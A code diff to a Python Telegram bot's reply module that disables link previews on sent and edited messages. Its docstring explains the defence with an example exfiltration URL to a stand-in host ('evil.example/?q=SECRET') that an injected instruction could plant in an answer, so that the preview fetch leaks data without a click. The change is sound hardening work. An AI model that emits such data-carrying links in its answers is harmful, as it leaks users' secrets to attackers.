@@ -1,11 +1,15 @@
-"""Replies to Telegram: HTML text split under 4,096 characters, inline keyboards, edits."""
+"""Replies to Telegram: HTML text split under 4,096 characters, inline keyboards, edits.
+
+Link previews are off: Telegram's servers would fetch a link in an answer or a draft to build
+one, which is how an injected ``https://evil.example/?q=SECRET`` carries data away unclicked.
+"""
 
 from __future__ import annotations
 
 import logging
 from functools import partial
 
-from telegram import InlineKeyboardButton, InlineKeyboardMarkup, Message
+from telegram import InlineKeyboardButton, InlineKeyboardMarkup, LinkPreviewOptions, Message
 from telegram.constants import MessageLimit, ParseMode
 from telegram.error import BadRequest
 from telegram.ext import ExtBot
@@ -15,6 +19,7 @@ from bot.tg.retry import with_retries
 
 log = logging.getLogger(__name__)
 LIMIT = int(MessageLimit.MAX_TEXT_LENGTH)
+NO_PREVIEW = LinkPreviewOptions(is_disabled=True)
 
 
 def split_text(text: str, limit: int = LIMIT) -> list[str]:
@@ -61,7 +66,12 @@ async def send(bot: ExtBot[None], chat_id: int, reply: Reply) -> Message | None:
     for i, piece in enumerate(pieces):
         markup = keyboard(reply) if i == len(pieces) - 1 else None
         call = partial(
-            bot.send_message, chat_id, piece, parse_mode=ParseMode.HTML, reply_markup=markup
+            bot.send_message,
+            chat_id,
+            piece,
+            parse_mode=ParseMode.HTML,
+            reply_markup=markup,
+            link_preview_options=NO_PREVIEW,
         )
         last = await with_retries(call)
     return last
@@ -77,6 +87,7 @@ async def edit(bot: ExtBot[None], message: Message, reply: Reply) -> None:
                 message_id=message.message_id,
                 parse_mode=ParseMode.HTML,
                 reply_markup=keyboard(reply),
+                link_preview_options=NO_PREVIEW,
             )
         )
     except BadRequest as exc:
